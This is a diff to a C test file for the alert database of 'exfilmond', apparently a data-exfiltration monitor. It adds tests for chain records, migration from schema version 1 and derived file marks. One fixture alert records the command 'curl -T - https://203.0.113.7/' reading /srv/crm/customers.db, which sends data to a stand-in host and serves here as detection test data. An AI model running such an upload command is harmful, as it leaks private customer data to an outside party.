@@ -17,12 +17,14 @@
 
 #include "kselftest_harness.h"
 #include "alert_eq.h"
+#include "chain_eq.h"
 #include "store.h"
 
 #define JSON_FLAGS (JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE)
 #define REFUSED "query refused: only a single read-only SELECT is allowed"
 
-/* An alert whose fields all derive from n, with n files, dests, procs. */
+/* An alert whose fields all derive from n, with n files, dests, procs,
+ * chain steps. */
 static void make_alert(struct alert *a, int n, int64_t updated_us)
 {
 	int i;
@@ -52,6 +54,21 @@ static void make_alert(struct alert *a, int n, int64_t updated_us)
 	a->dests = calloc(n, sizeof(*a->dests));
 	a->nr_ancestry = n;
 	a->ancestry = calloc(n, sizeof(*a->ancestry));
+	a->taint = 2097152ull * n;
+	a->senders = n + 1;
+	a->nr_chain = n;
+	a->chain = calloc(n, sizeof(*a->chain));
+	for (i = 0; i < n; i++) {
+		a->chain[i].pid = 200 + i;
+		a->chain[i].via = i ? VIA_PIPE + i % 5 : VIA_READ;
+		a->chain[i].bytes = 65536ull * (n - i);
+		snprintf(a->chain[i].comm, sizeof(a->chain[i].comm), "c%d", i);
+		snprintf(a->chain[i].exe, sizeof(a->chain[i].exe), "/bin/c%d",
+			 i);
+		if (!i || a->chain[i].via == VIA_SHM)
+			snprintf(a->chain[i].object,
+				 sizeof(a->chain[i].object), "/srv/db/%d", n);
+	}
 	for (i = 0; i < n; i++) {
 		snprintf(a->files[i].path, sizeof(a->files[i].path),
 			 "/srv/db/%d/file%d", n, i);
@@ -70,6 +87,13 @@ static void make_alert(struct alert *a, int n, int64_t updated_us)
 		snprintf(a->ancestry[i].exe, sizeof(a->ancestry[i].exe),
 			 "/bin/p%d", i);
 	}
+}
+
+static void same_alert(struct __test_metadata *_metadata,
+		       const struct alert *e, const struct alert *s)
+{
+	assert_alert_eq(_metadata, e, s);
+	assert_alert_flow_eq(_metadata, e, s);
 }
 
 static void rm_tree(const char *dir)
@@ -124,6 +148,28 @@ static int dump_row(void *arg, int ncol, char **vals, char **cols)
 	return 0;
 }
 
+/* The rows of each of the statements, from the test's own connection. */
+static char *db_dump(const char *path, const char *const *sql, size_t nr)
+{
+	char *out = strdup("");
+	sqlite3 *db;
+	size_t i;
+
+	if (sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL)) {
+		sqlite3_close(db);
+		free(out);
+		return NULL;
+	}
+	for (i = 0; out && i < nr; i++) {
+		if (sqlite3_exec(db, sql[i], dump_row, &out, NULL)) {
+			free(out);
+			out = NULL;
+		}
+	}
+	sqlite3_close(db);
+	return out;
+}
+
 /*
  * Every row of every table, the schema and the settings a write could
  * change, read through a connection of the test's own: the ground truth
@@ -138,28 +184,37 @@ static char *db_snapshot(const char *path)
 		"SELECT * FROM alert_files ORDER BY rowid",
 		"SELECT * FROM alert_destinations ORDER BY rowid",
 		"SELECT * FROM alert_ancestry ORDER BY rowid",
+		"SELECT * FROM alert_chain ORDER BY rowid",
 		"SELECT * FROM watches ORDER BY rowid",
+		"SELECT * FROM derived ORDER BY rowid",
 		"PRAGMA journal_mode",
 		"PRAGMA user_version",
 		"PRAGMA page_count",
 	};
-	char *out = strdup("");
+
+	return db_dump(path, sql, sizeof(sql) / sizeof(sql[0]));
+}
+
+/* One integer from the test's own connection. */
+static int query_int_for_test(const char *path, const char *sql,
+			      int64_t *out)
+{
+	sqlite3_stmt *stmt;
 	sqlite3 *db;
-	size_t i;
+	int rc;
 
 	if (sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL)) {
 		sqlite3_close(db);
-		free(out);
-		return NULL;
+		return -EIO;
 	}
-	for (i = 0; out && i < sizeof(sql) / sizeof(sql[0]); i++) {
-		if (sqlite3_exec(db, sql[i], dump_row, &out, NULL)) {
-			free(out);
-			out = NULL;
-		}
-	}
+	rc = sqlite3_prepare_v2(db, sql, -1, &stmt, NULL);
+	if (rc == SQLITE_OK && sqlite3_step(stmt) == SQLITE_ROW)
+		*out = sqlite3_column_int64(stmt, 0);
+	else
+		rc = SQLITE_ERROR;
+	sqlite3_finalize(stmt);
 	sqlite3_close(db);
-	return out;
+	return rc == SQLITE_OK ? 0 : -EIO;
 }
 
 /* The JSON text of a query's result, or "ERR <ret> <err>". */
@@ -215,12 +270,16 @@ TEST_F(alerts_db, schema_is_created)
 	/* Column lists, in order, from the test's own connection. */
 	static const char *const expected =
 		"name=alert_ancestry|cols=alert_id,depth,pid,ppid,uid,comm,exe|"
+		"name=alert_chain|cols=alert_id,step,pid,comm,exe,via,object,"
+		"bytes|"
 		"name=alert_destinations|cols=alert_id,addr,port,proto,"
 		"bytes_sent|"
 		"name=alert_files|cols=alert_id,path,bytes_read|"
 		"name=alerts|cols=id,time,time_us,updated,updated_us,severity,"
 		"pid,ppid,uid,user,comm,exe,cmdline,host,bytes_read,bytes_sent,"
-		"sensor,reason,first_ns,last_ns|"
+		"sensor,reason,first_ns,last_ns,taint,senders|"
+		"name=derived|cols=dev,ino,gen,watch_id,chan,taint,writer_pid,"
+		"writer_start_ns,path,chain,first_seen,last_seen|"
 		"name=meta|cols=key,value|"
 		"name=sqlite_sequence|cols=name,seq|"
 		"name=watches|cols=path,added|";
@@ -247,16 +306,18 @@ TEST_F(alerts_db, schema_is_created)
 			       " ORDER BY name",
 			       dump_row, &out, NULL));
 	EXPECT_STREQ("name=alert_ancestry_alert_id|tbl_name=alert_ancestry|"
+		     "name=alert_chain_alert_id|tbl_name=alert_chain|"
 		     "name=alert_destinations_alert_id|"
 		     "tbl_name=alert_destinations|"
 		     "name=alert_files_alert_id|tbl_name=alert_files|"
-		     "name=alerts_updated_us|tbl_name=alerts|",
+		     "name=alerts_updated_us|tbl_name=alerts|"
+		     "name=derived_last_seen|tbl_name=derived|",
 		     out);
 	free(out);
 	out = strdup("");
 	ASSERT_EQ(SQLITE_OK, sqlite3_exec(db, "SELECT key, value FROM meta",
 					  dump_row, &out, NULL));
-	EXPECT_STREQ("key=schema_version|value=1|", out);
+	EXPECT_STREQ("key=schema_version|value=2|", out);
 	free(out);
 	out = strdup("");
 	/* WAL is a property of the file, visible to any connection. */
@@ -358,14 +419,14 @@ TEST(open_errors_name_the_file_and_reason)
 	ASSERT_EQ(SQLITE_OK, sqlite3_open(path, &db));
 	ASSERT_EQ(SQLITE_OK,
 		  sqlite3_exec(db,
-			       "UPDATE meta SET value = 2"
+			       "UPDATE meta SET value = 3"
 			       " WHERE key = 'schema_version'",
 			       NULL, NULL, NULL));
 	sqlite3_close(db);
 	EXPECT_EQ(-ENOTSUP, store_open(&st, dir, err, sizeof(err)));
 	snprintf(expected, sizeof(expected),
-		 "%s: schema_version 2 is not the 1 this exfilmond "
-		 "understands",
+		 "%s: schema_version 3 is not one this exfilmond "
+		 "understands (1 to 2)",
 		 path);
 	EXPECT_STREQ(expected, err);
 	EXPECT_EQ(NULL, st);
@@ -384,10 +445,10 @@ TEST_F(alerts_db, put_get_round_trip)
 	EXPECT_EQ(2, b.id);
 
 	ASSERT_EQ(0, store_get_alert(self->st, 1, &got));
-	assert_alert_eq(_metadata, &a, &got);
+	same_alert(_metadata, &a, &got);
 	alert_free(&got);
 	ASSERT_EQ(0, store_get_alert(self->st, 2, &got));
-	assert_alert_eq(_metadata, &b, &got);
+	same_alert(_metadata, &b, &got);
 	alert_free(&got);
 
 	memset(&got, 0x5a, sizeof(got));
@@ -430,6 +491,16 @@ TEST_F(alerts_db, stored_columns_are_exact)
 		     "{\"columns\":[\"alert_id\",\"depth\",\"pid\",\"ppid\","
 		     "\"uid\",\"comm\",\"exe\"],\"rows\":[[1,0,101,100,0,"
 		     "\"p0\",\"/bin/p0\"]],\"truncated\":false}");
+	EXPECT_QUERY(self->st,
+		     "SELECT a.taint, a.senders, c.alert_id, c.step, c.pid,"
+		     " c.comm, c.exe, c.via, c.object, c.bytes FROM alerts a"
+		     " JOIN alert_chain c ON c.alert_id = a.id",
+		     10,
+		     "{\"columns\":[\"taint\",\"senders\",\"alert_id\","
+		     "\"step\",\"pid\",\"comm\",\"exe\",\"via\",\"object\","
+		     "\"bytes\"],\"rows\":[[2097152,2,1,0,200,\"c0\","
+		     "\"/bin/c0\",\"read\",\"/srv/db/1\",65536]],"
+		     "\"truncated\":false}");
 	alert_free(&a);
 }
 
@@ -443,6 +514,7 @@ TEST_F(alerts_db, update_rewrites_details)
 	ASSERT_EQ(1, a.id);
 	/* The correlator updates the alert: fewer files, more sent. */
 	a.nr_files = 1;
+	a.nr_chain = 2;
 	a.bytes_sent *= 2;
 	a.updated_us = 9000;
 	a.severity = SEV_CRITICAL;
@@ -452,7 +524,7 @@ TEST_F(alerts_db, update_rewrites_details)
 	ASSERT_EQ(0, store_count_alerts(self->st, &count));
 	EXPECT_EQ(1, count);
 	ASSERT_EQ(0, store_get_alert(self->st, 1, &got));
-	assert_alert_eq(_metadata, &a, &got);
+	same_alert(_metadata, &a, &got);
 	alert_free(&got);
 	/* No stale detail rows are left behind. */
 	EXPECT_QUERY(self->st,
@@ -464,6 +536,9 @@ TEST_F(alerts_db, update_rewrites_details)
 		     "\"(SELECT count(*) FROM alert_destinations)\","
 		     "\"(SELECT count(*) FROM alert_ancestry)\"],"
 		     "\"rows\":[[1,3,3]],\"truncated\":false}");
+	EXPECT_QUERY(self->st, "SELECT count(*) AS n FROM alert_chain", 10,
+		     "{\"columns\":[\"n\"],\"rows\":[[2]],"
+		     "\"truncated\":false}");
 	a.nr_files = 3;
 	alert_free(&a);
 }
@@ -490,10 +565,10 @@ TEST_F(alerts_db, list_newest_first_and_since)
 
 	ASSERT_EQ(0, store_list_alerts(self->st, 0, &list, &nr));
 	ASSERT_EQ(4, nr);
-	assert_alert_eq(_metadata, &in[2], &list[0]);
-	assert_alert_eq(_metadata, &in[0], &list[1]);
-	assert_alert_eq(_metadata, &in[3], &list[2]);
-	assert_alert_eq(_metadata, &in[1], &list[3]);
+	same_alert(_metadata, &in[2], &list[0]);
+	same_alert(_metadata, &in[0], &list[1]);
+	same_alert(_metadata, &in[3], &list[2]);
+	same_alert(_metadata, &in[1], &list[3]);
 	store_free_alerts(list, nr);
 
 	ASSERT_EQ(0, store_list_alerts(self->st, 2000, &list, &nr));
@@ -545,6 +620,11 @@ TEST_F(alerts_db, invalid_alerts_are_refused)
 	EXPECT_EQ(-EINVAL, store_put_alert(self->st, &a));
 	EXPECT_STREQ("alert 0: destination 1 has invalid protocol 1",
 		     store_errmsg(self->st));
+	a.dests[1].proto = EXFILMON_PROTO_TCP;
+	a.chain[1].via = VIA_NR;
+	EXPECT_EQ(-EINVAL, store_put_alert(self->st, &a));
+	EXPECT_STREQ("alert 0: chain step 1 has invalid channel 10",
+		     store_errmsg(self->st));
 	EXPECT_EQ(0, a.id);
 	ASSERT_EQ(0, store_count_alerts(self->st, &count));
 	EXPECT_EQ(0, count);
@@ -595,6 +675,301 @@ TEST_F(alerts_db, watch_list)
 			     got);
 		free(got);
 	}
+}
+
+/*
+ * A database as exfilmond 0.1 (schema version 1) left it: its schema
+ * spelled out here, as that version created it, with one alert.
+ */
+static const char schema_v1[] =
+	"CREATE TABLE meta (key TEXT PRIMARY KEY, value NOT NULL);"
+	"INSERT INTO meta VALUES ('schema_version', 1);"
+	"CREATE TABLE alerts (id INTEGER PRIMARY KEY AUTOINCREMENT,"
+	" time TEXT NOT NULL, time_us INTEGER NOT NULL, updated TEXT NOT NULL,"
+	" updated_us INTEGER NOT NULL, severity TEXT NOT NULL,"
+	" pid INTEGER NOT NULL, ppid INTEGER NOT NULL, uid INTEGER NOT NULL,"
+	" user TEXT NOT NULL, comm TEXT NOT NULL, exe TEXT NOT NULL,"
+	" cmdline TEXT NOT NULL, host TEXT NOT NULL,"
+	" bytes_read INTEGER NOT NULL, bytes_sent INTEGER NOT NULL,"
+	" sensor TEXT NOT NULL, reason TEXT NOT NULL,"
+	" first_ns INTEGER NOT NULL, last_ns INTEGER NOT NULL);"
+	"CREATE INDEX alerts_updated_us ON alerts(updated_us);"
+	"CREATE TABLE alert_files (alert_id INTEGER NOT NULL REFERENCES"
+	" alerts(id) ON DELETE CASCADE, path TEXT NOT NULL,"
+	" bytes_read INTEGER NOT NULL);"
+	"CREATE INDEX alert_files_alert_id ON alert_files(alert_id);"
+	"CREATE TABLE alert_destinations (alert_id INTEGER NOT NULL"
+	" REFERENCES alerts(id) ON DELETE CASCADE, addr TEXT NOT NULL,"
+	" port INTEGER NOT NULL, proto TEXT NOT NULL,"
+	" bytes_sent INTEGER NOT NULL);"
+	"CREATE INDEX alert_destinations_alert_id"
+	" ON alert_destinations(alert_id);"
+	"CREATE TABLE alert_ancestry (alert_id INTEGER NOT NULL REFERENCES"
+	" alerts(id) ON DELETE CASCADE, depth INTEGER NOT NULL,"
+	" pid INTEGER NOT NULL, ppid INTEGER NOT NULL, uid INTEGER NOT NULL,"
+	" comm TEXT NOT NULL, exe TEXT NOT NULL);"
+	"CREATE INDEX alert_ancestry_alert_id ON alert_ancestry(alert_id);"
+	"CREATE TABLE watches (path TEXT PRIMARY KEY, added TEXT NOT NULL);"
+	"INSERT INTO alerts VALUES (1, '2026-11-29T11:27:38.123456Z',"
+	" 1796383658123456, '2026-11-29T11:29:02.000001Z', 1796383742000001,"
+	" 'high', 4242, 4100, 1000, 'alice', 'curl', '/usr/bin/curl',"
+	" 'curl -T - https://203.0.113.7/', '203.0.113.7', 12582912,"
+	" 12480000, 'bpf', 'old reason', 1000, 73000000000);"
+	"INSERT INTO alert_files VALUES (1, '/srv/crm/customers.db', 12582912);"
+	"INSERT INTO alert_destinations VALUES (1, '203.0.113.7', 443, 'tcp',"
+	" 12480000);"
+	"INSERT INTO alert_ancestry VALUES (1, 0, 4242, 4100, 1000, 'curl',"
+	" '/usr/bin/curl');"
+	"INSERT INTO watches VALUES ('/srv/crm', '2026-11-29T10:00:00.000000Z');";
+
+static void make_v1_db(struct __test_metadata *_metadata, const char *dir,
+		       const char *extra_sql)
+{
+	char path[128];
+	sqlite3 *db;
+
+	snprintf(path, sizeof(path), "%s/alerts.db", dir);
+	ASSERT_EQ(SQLITE_OK, sqlite3_open(path, &db));
+	ASSERT_EQ(SQLITE_OK, sqlite3_exec(db, "PRAGMA journal_mode=WAL",
+					  NULL, NULL, NULL));
+	ASSERT_EQ(SQLITE_OK, sqlite3_exec(db, schema_v1, NULL, NULL, NULL));
+	if (extra_sql)
+		ASSERT_EQ(SQLITE_OK, sqlite3_exec(db, extra_sql, NULL, NULL,
+						  NULL));
+	ASSERT_EQ(SQLITE_OK, sqlite3_close(db));
+	ASSERT_EQ(0, chmod(path, 0640));
+}
+
+TEST(version_1_database_is_migrated)
+{
+	char dir[] = "/tmp/test_store.XXXXXX", err[256] = "", **paths;
+	struct store *st;
+	struct alert got, a;
+	size_t nr;
+
+	ASSERT_NE(NULL, mkdtemp(dir));
+	make_v1_db(_metadata, dir, NULL);
+	ASSERT_EQ(0, store_open(&st, dir, err, sizeof(err))) TH_LOG("%s", err);
+	EXPECT_QUERY(st, "SELECT value FROM meta", 10,
+		     "{\"columns\":[\"value\"],\"rows\":[[2]],"
+		     "\"truncated\":false}");
+	/* the old alert reads back whole, as one tree's taint */
+	ASSERT_EQ(0, store_get_alert(st, 1, &got));
+	EXPECT_STREQ("curl", got.comm);
+	EXPECT_STREQ("old reason", got.reason);
+	EXPECT_EQ(12582912, got.bytes_read);
+	EXPECT_EQ(12582912, got.taint);
+	EXPECT_EQ(1, got.senders);
+	EXPECT_EQ(0, got.nr_chain);
+	ASSERT_EQ(1, got.nr_files);
+	EXPECT_STREQ("/srv/crm/customers.db", got.files[0].path);
+	ASSERT_EQ(1, got.nr_ancestry);
+	alert_free(&got);
+	ASSERT_EQ(0, store_watch_list(st, &paths, &nr));
+	ASSERT_EQ(1, nr);
+	EXPECT_STREQ("/srv/crm", paths[0]);
+	store_free_watches(paths, nr);
+	/* new alerts have chains, next to the old */
+	make_alert(&a, 3, 1796383800000000);
+	ASSERT_EQ(0, store_put_alert(st, &a));
+	EXPECT_EQ(2, a.id);
+	ASSERT_EQ(0, store_get_alert(st, 2, &got));
+	same_alert(_metadata, &a, &got);
+	alert_free(&got);
+	alert_free(&a);
+	store_close(st);
+	/* opened again: nothing more to do */
+	ASSERT_EQ(0, store_open(&st, dir, err, sizeof(err))) TH_LOG("%s", err);
+	ASSERT_EQ(0, store_get_alert(st, 1, &got));
+	EXPECT_EQ(12582912, got.taint);
+	alert_free(&got);
+	store_close(st);
+	rm_tree(dir);
+}
+
+TEST(failed_migration_changes_nothing)
+{
+	static const char *const v1_tables[] = {
+		"SELECT type, name, sql FROM sqlite_master ORDER BY name",
+		"SELECT * FROM meta ORDER BY key",
+		"SELECT * FROM alerts ORDER BY id",
+	};
+	char dir[] = "/tmp/test_store.XXXXXX", err[256] = "", path[128];
+	char *before, *after;
+	struct store *st = NULL;
+
+	ASSERT_NE(NULL, mkdtemp(dir));
+	/* a table in the way of the new one */
+	make_v1_db(_metadata, dir, "CREATE TABLE derived (x);");
+	snprintf(path, sizeof(path), "%s/alerts.db", dir);
+	before = db_dump(path, v1_tables, 3);
+	ASSERT_NE(NULL, before);
+	EXPECT_EQ(-EINVAL, store_open(&st, dir, err, sizeof(err)));
+	snprintf(path, sizeof(path), "%s/alerts.db: failed to upgrade the "
+		 "schema from version 1 to 2: table derived already exists",
+		 dir);
+	EXPECT_STREQ(path, err);
+	snprintf(path, sizeof(path), "%s/alerts.db", dir);
+	EXPECT_EQ(NULL, st);
+	after = db_dump(path, v1_tables, 3);
+	ASSERT_NE(NULL, after);
+	/* still version 1, no column added, no table made */
+	EXPECT_STREQ(before, after);
+	EXPECT_NE(NULL, strstr(after, "value=1|"));
+	free(before);
+	free(after);
+	rm_tree(dir);
+}
+
+static const struct exfilmon_file_key notes = { .dev = 8 << 20 | 2,
+						.ino = 777 };
+
+static struct exfilmon_obj mark(uint32_t gen, uint64_t taint)
+{
+	return (struct exfilmon_obj){
+		.flags = EXFILMON_OBJ_DERIVED, .watch_id = 3,
+		.chan = EXFILMON_CHAN_SHM, .gen = gen, .taint = taint,
+		.last_ns = 123, .writer = { .tgid = 4100, .start_ns = 55 },
+	};
+}
+
+struct marks {
+	struct exfilmon_file_key key[8];
+	struct exfilmon_obj obj[8];
+	int n;
+	int stop_at;
+};
+
+static int take(void *ctx, const struct exfilmon_file_key *key,
+		const struct exfilmon_obj *obj)
+{
+	struct marks *m = ctx;
+
+	if (m->n == m->stop_at)
+		return -ENOSPC;
+	m->key[m->n] = *key;
+	m->obj[m->n++] = *obj;
+	return 0;
+}
+
+TEST_F(alerts_db, derived_marks_round_trip)
+{
+	struct exfilmon_obj obj = mark(7, 5242880), got;
+	struct exfilmon_file_key other = { .dev = notes.dev, .ino = 778 };
+	struct marks m = { .stop_at = -1 };
+	char *path, *chain;
+	char err[256];
+
+	ASSERT_EQ(0, store_derived_put(self->st, &notes, &obj,
+				       "/dev/shm/buf", "[{\"pid\":1}]"));
+	ASSERT_EQ(0, store_derived_get(self->st, &notes, &got, &path, &chain));
+	EXPECT_STREQ("/dev/shm/buf", path);
+	EXPECT_STREQ("[{\"pid\":1}]", chain);
+	EXPECT_EQ(EXFILMON_OBJ_DERIVED, got.flags);
+	EXPECT_EQ(7, got.gen);
+	EXPECT_EQ(3, got.watch_id);
+	EXPECT_EQ(EXFILMON_CHAN_SHM, got.chan);
+	EXPECT_EQ(5242880, got.taint);
+	EXPECT_EQ(4100, got.writer.tgid);
+	EXPECT_EQ(55, got.writer.start_ns);
+	/* a boot-time stamp means nothing after a reboot */
+	EXPECT_EQ(0, got.last_ns);
+	free(path);
+	free(chain);
+
+	/* more taint, no new path or chain: what is known stays */
+	obj.taint = 6000000;
+	ASSERT_EQ(0, store_derived_put(self->st, &notes, &obj, "", ""));
+	ASSERT_EQ(0, store_derived_get(self->st, &notes, &got, &path, &chain));
+	EXPECT_STREQ("/dev/shm/buf", path);
+	EXPECT_STREQ("[{\"pid\":1}]", chain);
+	EXPECT_EQ(6000000, got.taint);
+	free(path);
+	free(chain);
+	/* another generation is another file: it starts over */
+	obj = mark(8, 10);
+	ASSERT_EQ(0, store_derived_put(self->st, &notes, &obj, "", ""));
+	ASSERT_EQ(0, store_derived_get(self->st, &notes, &got, &path, &chain));
+	EXPECT_STREQ("", path);
+	EXPECT_STREQ("", chain);
+	EXPECT_EQ(8, got.gen);
+	EXPECT_EQ(10, got.taint);
+	free(path);
+	free(chain);
+
+	/* the walk for the sensor, and a callback that stops it */
+	ASSERT_EQ(0, store_derived_put(self->st, &other, &obj, "/tmp/b", ""));
+	ASSERT_EQ(0, store_derived_each(self->st, take, &m));
+	ASSERT_EQ(2, m.n);
+	EXPECT_EQ(notes.dev, m.key[0].dev);
+	m.n = 0;
+	m.stop_at = 1;
+	EXPECT_EQ(-ENOSPC, store_derived_each(self->st, take, &m));
+	EXPECT_EQ(1, m.n);
+
+	/* the marks survive a restart */
+	store_close(self->st);
+	self->st = NULL;
+	ASSERT_EQ(0, store_open(&self->st, self->dir, err, sizeof(err)));
+	ASSERT_EQ(0, store_derived_get(self->st, &other, &got, &path, &chain));
+	EXPECT_STREQ("/tmp/b", path);
+	free(path);
+	free(chain);
+
+	ASSERT_EQ(0, store_derived_rm(self->st, &other));
+	EXPECT_EQ(-ENOENT, store_derived_rm(self->st, &other));
+	EXPECT_EQ(-ENOENT, store_derived_get(self->st, &other, &got, &path,
+					     &chain));
+	EXPECT_STREQ("no derived mark 8388610:778", store_errmsg(self->st));
+	EXPECT_EQ(NULL, path);
+	EXPECT_EQ(NULL, chain);
+}
+
+TEST_F(alerts_db, only_derived_files_are_marks)
+{
+	struct exfilmon_obj obj = mark(1, 1);
+	struct exfilmon_file_key sock = {
+		.dev = EXFILMON_KEY_TAG_UNIX, .ino = 5 };
+	int64_t count = -1;
+
+	obj.flags = EXFILMON_WATCH_FILE;
+	EXPECT_EQ(-EINVAL, store_derived_put(self->st, &notes, &obj, "", ""));
+	EXPECT_STREQ("derived mark 8388610:777: not a derived file "
+		     "(flags 0x1)", store_errmsg(self->st));
+	obj.flags = EXFILMON_OBJ_DERIVED;
+	EXPECT_EQ(-EINVAL, store_derived_put(self->st, &sock, &obj, "", ""));
+	ASSERT_EQ(0, query_int_for_test(self->db, "SELECT count(*) FROM derived",
+					&count));
+	EXPECT_EQ(0, count);
+}
+
+/* The oldest marks go first once there are more than the bound. */
+TEST_F(alerts_db, derived_marks_are_bounded)
+{
+	struct exfilmon_obj obj = mark(1, 1), got;
+	struct exfilmon_file_key k = notes;
+	int64_t count = -1;
+	char *path, *chain;
+	int i;
+
+	store_set_derived_max(self->st, 100);
+	for (i = 0; i < 300; i++) {
+		k.ino = 1000 + i;
+		ASSERT_EQ(0, store_derived_put(self->st, &k, &obj, "", ""));
+		/* last_seen has microseconds: keep the order exact */
+		usleep(2);
+	}
+	/* pruned at the 256th put, 44 since */
+	ASSERT_EQ(0, query_int_for_test(self->db, "SELECT count(*) FROM derived",
+					&count));
+	EXPECT_EQ(144, count);
+	k.ino = 1000 + 155;
+	EXPECT_EQ(-ENOENT, store_derived_get(self->st, &k, &got, &path,
+					     &chain));
+	k.ino = 1000 + 156;
+	ASSERT_EQ(0, store_derived_get(self->st, &k, &got, &path, &chain));
+	free(path);
+	free(chain);
 }
 
 /*
